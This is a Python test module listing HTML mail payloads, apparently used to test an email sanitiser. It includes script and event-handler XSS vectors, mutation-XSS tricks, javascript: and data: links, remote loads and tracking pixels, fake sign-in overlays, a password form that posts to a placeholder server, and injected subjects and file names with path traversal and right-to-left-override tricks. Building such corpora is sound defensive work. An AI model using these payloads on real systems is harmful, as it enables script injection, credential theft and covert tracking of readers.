"""What a mail may bring to run, to load or to show where it should not: a corpus of our own.

`{there}` is replaced by the address of a server that counts who asks, `{mark}` by a script that
leaves a mark on the window that runs it. Each entry is the HTML of one mail.
"""

# ruff: noqa: E501 - a vector stays in one piece

from __future__ import annotations

MARK = "top.hostile=parent.hostile=self.hostile=1"

VECTORS: dict[str, str] = {
    # --- scripts
    "script": "<script>{mark}</script>",
    "script from elsewhere": '<script src="{there}/s.js"></script>',
    "script in odd letters": "<ScRiPt >{mark}</sCrIpT >",
    "script with a slash": "<script/x>{mark}</script>",
    "script within a script's name": "<scr<script>ipt>{mark}</scr</script>ipt>",
    "script after a NUL": "<scr\x00ipt>{mark}</scr\x00ipt>",
    "script that is never closed": "<script>{mark}//",
    "module script": '<script type="module">{mark}</script>',
    "script in a title": "<title><script>{mark}</script></title>",
    "script after a broken comment": "<!--><script>{mark}</script>-->",
    "script after a bogus comment": "<!--!><script>{mark}</script><!---->",
    "script in a conditional comment": "<!--[if true]><script>{mark}</script><![endif]-->",
    "script after CDATA": "<![CDATA[<script>{mark}</script>]]>",
    "script in a textarea that is left": "<textarea></textarea><script>{mark}</script></textarea>",
    # --- handlers
    "handler of a broken picture": '<img src="x:" onerror="{mark}">',
    "handler without spaces": "<img/src='x:'/onerror={mark}>",
    "handler in odd letters": "<img src=x: OnErRoR={mark}>",
    "handler with a line break": "<img src=x: onerror\n=\n'{mark}'>",
    "handler with entities": '<img src=x: onerror="&#115;elf.hostile=1">',
    "handler on focus": '<a href="#" tabindex="1" autofocus onfocus="{mark}">x</a>',
    "handler of an animation": '<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{mark}">x</p>',
    "handler of details": '<details open ontoggle="{mark}">x</details>',
    "handler of a video": '<video><source onerror="{mark}" src="x:"></video>',
    "handler on load of the body": '<body onload="{mark}" onpageshow="{mark}">x</body>',
    "handler while scrolling into view": '<p oncontentvisibilityautostatechange="{mark}" style="content-visibility:auto">x</p>',
    "handler of a marquee": '<marquee onstart="{mark}">x</marquee>',
    # --- addresses that run
    "javascript link": '<a id="go" href="javascript:{mark}">Click</a>',
    "javascript link with a tab": '<a id="go" href="java\tscript:{mark}">Click</a>',
    "javascript link with entities": '<a id="go" href="&#x6A;avascript&colon;{mark}">Click</a>',
    "javascript link after control letters": '<a id="go" href="\x01\x02javascript:{mark}">Click</a>',
    "javascript link, percent encoded": '<a id="go" href="%6Aavascript:{mark}">Click</a>',
    "vbscript link": '<a id="go" href="vbscript:{mark}">Click</a>',
    "data link": '<a id="go" href="data:text/html,<script>{mark}</script>">Click</a>',
    "data link in base64": '<a id="go" href="data:text/html;base64,PHNjcmlwdD50b3AuaG9zdGlsZT0xPC9zY3JpcHQ+">Click</a>',
    "javascript in a picture": '<img src="javascript:{mark}">',
    "javascript in an area": '<map name="m"><area id="go" shape="rect" coords="0,0,9,9" href="javascript:{mark}"></map>',
    # --- style
    "style that loads": "<style>body{{background:url({there}/style)}}</style>x",
    "style that imports": '<style>@import "{there}/import.css";</style>x',
    "style that brings a font": "<style>@font-face{{font-family:f;src:url({there}/font)}}p{{font-family:f}}</style><p>x</p>",
    "style attribute that loads": '<p style="background-image:url({there}/attribute)">x</p>',
    "style attribute with escapes": '<p style="background:\\75rl({there}/escaped)">x</p>',
    "style attribute with a list of pictures": '<p style="list-style:url({there}/list) inside;display:list-item">x</p>',
    "style with image-set": "<p style=\"background:image-set('{there}/set' 1x)\">x</p>",
    "style with a cursor": '<p style="cursor:url({there}/cursor),auto">x</p>',
    "style with an expression": '<p style="width:expression({mark})">x</p>',
    "style with a binding": '<p style="-moz-binding:url({there}/b.xml#x);behavior:url({there}/b.htc)">x</p>',
    "style sheet by link": '<link rel="stylesheet" href="{there}/link.css">x',
    "overlay over the page": '<div style="position:fixed;inset:0;z-index:99999;background:red">Sign in again</div>',
    "overlay by a class": "<style>.o{{position:fixed;top:0;left:0;width:100vw;height:100vh}}</style><div class=o>x</div>",
    "overlay pulled up": '<div style="position:absolute;top:-9999px;left:-9999px;width:9999px;height:20000px">x</div>',
    # --- SVG and MathML
    "svg with a handler": '<svg onload="{mark}"></svg>',
    "svg with a script": "<svg><script>{mark}</script></svg>",
    "svg with a script elsewhere": '<svg><script href="{there}/svg.js"></script></svg>',
    "svg that animates a link": '<svg><a id="go"><animate attributeName="href" values="javascript:{mark}"/><text>x</text></a></svg>',
    "svg that sets a handler": '<svg><set attributeName="onmouseover" to="{mark}"/></svg>',
    "svg that uses": '<svg><use href="{there}/use.svg#x"/></svg>',
    "svg picture": '<svg><image href="{there}/image.png" width="9" height="9"/></svg>',
    "svg with foreign parts": '<svg><foreignObject><iframe src="javascript:{mark}"></iframe></foreignObject></svg>',
    "mathml link": '<math><mi id="go" href="javascript:{mark}" xlink:href="javascript:{mark}">x</mi></math>',
    "mathml that changes its kind": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={mark}&gt;">',
    "svg that changes its kind": '<svg></p><style><a id="</style><img src=x: onerror={mark}>">',
    "style within svg": "<svg><style><img src=x: onerror={mark}></style></svg>",
    "noscript that changes its kind": '<noscript><p title="</noscript><img src=x: onerror={mark}>"></noscript>',
    "form that changes its kind": "<form><math><mtext></form><form><mglyph><style></math><img src onerror={mark}></style></mglyph></form>",
    "template": "<template><script>{mark}</script></template>",
    "template with a shadow": '<div><template shadowrootmode="open"><script>{mark}</script><img src="{there}/shadow"></template></div>',
    "plaintext": "<plaintext><script>{mark}</script>",
    "xmp": '<xmp><p title="</xmp><img src=x: onerror={mark}>"></xmp>',
    # --- leaving the mail
    "refresh": '<meta http-equiv="refresh" content="0;url={there}/refresh">',
    "refresh with a script": '<meta http-equiv="refresh" content="0;url=javascript:{mark}">',
    "policy of its own": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": '<base href="{there}/base/" target="_top"><a id="go" href="x">Click</a><img src="x.png">',
    "link to the window around": '<a id="go" href="{there}/top" target="_top">Click</a>',
    "form": '<form action="{there}/form" method="post"><input name="password" type="password"><button id="go">Go</button></form>',
    "button with its own action": '<form id="f"></form><button id="go" form="f" formaction="javascript:{mark}">Go</button>',
    "frame": '<iframe src="{there}/frame"></iframe>',
    "frame with a text": '<iframe srcdoc="&lt;script&gt;{mark}&lt;/script&gt;"></iframe>',
    "frameset": '<frameset><frame src="{there}/frameset"></frameset>',
    "object": '<object data="{there}/object" type="text/html"></object>',
    "embed": '<embed src="{there}/embed" type="image/svg+xml">',
    "applet": '<applet code="x" codebase="{there}/applet"></applet>',
    "portal": '<portal src="{there}/portal"></portal><fencedframe src="{there}/fenced"></fencedframe>',
    "dialog that is open": "<dialog open style='position:fixed;inset:0'>Sign in again</dialog>",
    "popover": '<button id="go" popovertarget="p">x</button><div id="p" popover>Sign in again</div>',
    # --- whatever tells that the mail was read
    "pixel": '<img src="{there}/pixel.gif" width="1" height="1">',
    "pixel in a srcset": '<img srcset="{there}/set.gif 1x, {there}/set2.gif 2x">',
    "pixel of a picture element": '<picture><source srcset="{there}/source.gif"><img alt="x"></picture>',
    "pixel without a scheme": '<img src="//{host}/relative.gif">',
    "pixel with a low source": '<img lowsrc="{there}/low.gif" dynsrc="{there}/dyn.gif">',
    "background of a table": '<table background="{there}/table.gif"><tr><td background="{there}/cell.gif">x</td></tr></table>',
    "background of the body": '<body background="{there}/body.gif">x</body>',
    "poster": '<video poster="{there}/poster.gif"></video>',
    "sound": '<audio src="{there}/sound.mp3" autoplay></audio><bgsound src="{there}/bg.mp3">',
    "subtitles": '<video><track default src="{there}/track.vtt"></video>',
    "input picture": '<input type="image" src="{there}/input.gif">',
    "name look-up": '<link rel="dns-prefetch" href="{there}"><link rel="preconnect" href="{there}">',
    "preload": '<link rel="preload" as="image" href="{there}/preload.gif"><link rel="prefetch" href="{there}/prefetch">',
    "manifest and icon": '<link rel="manifest" href="{there}/m.json"><link rel="icon" href="{there}/i.ico">',
    "ping": '<a id="go" href="#x" ping="{there}/ping">Click</a>',
    "attribution": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" attributionsrc="{there}/attribution">',
    # --- names that hide what a page counts on
    "names of the document": '<img name="body"><form name="documentElement"></form><a id="location" href="x:">x</a><a id="getElementById">x</a>',
    "ids of the page": '<div id="feed">x</div><div id="notices">x</div><div id="write">x</div><div id="announcer">x</div>',
    "names in a form": '<form id="f"><input name="attributes"><input name="parentNode"><input name="remove"></form>',
    # --- parts without an end
    "comment without an end": "before <!-- <p>x</p>",
    "tag without an end": '<p title="x <b>y</b>',
    "attribute without an end": '<a href="x:y>Click</a> <img src=x: onerror={mark}',
    "ends of the page": "</div></article></main></body></html><h1>Sign in again</h1>",
    "ends of a frame": "</iframe></noscript></template><script>{mark}</script>",
    "very deep": "<div>" * 3_000 + "<script>{mark}</script>deep" + "</div>" * 3_000,
    "very many attributes": "<p " + " ".join(f"data-a{n}=x" for n in range(2_000)) + ">x</p>",
    "very long word": "<p>" + "x" * 20_000 + "</p>",
}

SUBJECTS = (
    "<script>top.hostile=1</script>",
    '"><img src=x: onerror=top.hostile=1>',
    "</title><svg onload=top.hostile=1>",
    "{{ 7 * 7 }}{% raw %} ${7*7} <%= 7 %>",
    "\u202egnp.exe\u202c \u0000 \u200b",
    "javascript:top.hostile=1//",
)

NAMES = (
    "<img src=x: onerror=top.hostile=1>",
    "'\"><svg/onload=top.hostile=1>",
    "</option></select><script>top.hostile=1</script>",
)

FILES = (
    '"><img src=x: onerror=top.hostile=1>.txt',
    "<script>top.hostile=1</script>.html",
    "run\u202etxt.svg",
    "..\\..\\<svg onload=top.hostile=1>.svg",
)
